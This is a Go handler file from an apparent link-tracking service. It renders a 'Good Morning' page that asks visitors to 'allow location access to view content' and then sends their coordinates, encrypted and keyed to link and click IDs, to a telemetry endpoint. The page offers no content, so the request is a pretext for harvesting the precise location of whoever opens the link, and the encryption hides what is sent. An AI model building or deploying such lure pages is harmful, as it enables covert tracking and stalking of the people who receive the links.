package handlers

import (
	"bytes"
	"html/template"
	"strconv"
)

// The tracking page is the one piece of HTML this service renders. It
// greets the visitor, asks for geolocation permission, and posts the
// captured coordinates back over the encrypted telemetry channel. The
// embedded script is the client-side call site of the payload cipher and
// must produce the exact wire format internal/payload consumes:
// "<iv_hex>:<ciphertext_base64>", AES-256-CBC, PKCS#7. The key is
// injected hex-encoded and parsed with CryptoJS.enc.Hex so both ends use
// the same 32 bytes.
type trackingPageData struct {
	LinkID        int64
	ClickID       template.JS
	Slug          string
	KeyHex        string
	TelemetryPath string
}

var trackingPageTmpl = template.Must(template.New("tracking").Parse(`<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>Good Morning</title>
<style>
body { margin: 0; padding: 20px; font-family: -apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, sans-serif; display: flex; justify-content: center; align-items: center; min-height: 100vh; background: linear-gradient(135deg, #667eea 0%, #764ba2 100%); }
.card { padding: 3rem; background: white; border-radius: 20px; box-shadow: 0 20px 60px rgba(0,0,0,0.3); text-align: center; max-width: 500px; width: 100%; }
#status { margin-bottom: 30px; color: #666; font-size: 16px; }
h1 { color: #333; font-size: 36px; font-weight: 600; }
</style>
</head>
<body>
<div class="card">
<div id="status">Please allow location access to view content...</div>
<h1>Good Morning</h1>
</div>
<script src="https://cdnjs.cloudflare.com/ajax/libs/crypto-js/4.2.0/crypto-js.min.js"></script>
<script>
(function () {
  var linkId = {{.LinkID}};
  var clickId = {{.ClickID}};
  var slug = {{.Slug}};
  var key = CryptoJS.enc.Hex.parse({{.KeyHex}});

  function encryptPayload(payload) {
    var iv = CryptoJS.lib.WordArray.random(16);
    var encrypted = CryptoJS.AES.encrypt(JSON.stringify(payload), key, {
      iv: iv,
      mode: CryptoJS.mode.CBC,
      padding: CryptoJS.pad.Pkcs7
    });
    return iv.toString() + ':' + encrypted.toString();
  }

  function sendLocation(latitude, longitude, accuracy) {
    if (typeof latitude !== 'number' || typeof longitude !== 'number' ||
        isNaN(latitude) || isNaN(longitude) ||
        latitude < -90 || latitude > 90 || longitude < -180 || longitude > 180) {
      return;
    }
    var encrypted = encryptPayload({
      link_id: linkId,
      click_id: clickId,
      latitude: latitude,
      longitude: longitude,
      accuracy: accuracy === undefined ? null : accuracy,
      timestamp: new Date().toISOString(),
      slug: slug
    });
    fetch({{.TelemetryPath}}, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ encrypted: encrypted })
    }).catch(function () {});
  }

  function setStatus(text) {
    var el = document.getElementById('status');
    if (el) { el.textContent = text; }
  }

  if (!navigator.geolocation) {
    setStatus('Geolocation not supported by your browser.');
    return;
  }

  var retries = 0;
  function requestLocation(timeout) {
    navigator.geolocation.getCurrentPosition(
      function (position) {
        setStatus('');
        sendLocation(position.coords.latitude, position.coords.longitude, position.coords.accuracy);
      },
      function (error) {
        if (error.code === 1) {
          setStatus('Location access denied.');
          return;
        }
        if (retries < 3) {
          retries++;
          setTimeout(function () { requestLocation(timeout + retries * 10000); }, 1000);
          return;
        }
        setStatus('Unable to access location.');
      },
      { enableHighAccuracy: false, timeout: timeout, maximumAge: 300000 }
    );
  }
  requestLocation(30000);
})();
</script>
</body>
</html>
`))

func renderTrackingPage(data trackingPageData) ([]byte, error) {
	var buf bytes.Buffer
	if err := trackingPageTmpl.Execute(&buf, data); err != nil {
		return nil, err
	}

	return buf.Bytes(), nil
}

// clickIDLiteral renders the optional click id as a JS literal: the
// store-assigned id when the insert succeeded, null otherwise (the
// server then falls back to the most-recent-click heuristic).
func clickIDLiteral(id *int64) template.JS {
	if id == nil {
		return "null"
	}

	return template.JS(strconv.FormatInt(*id, 10))
}
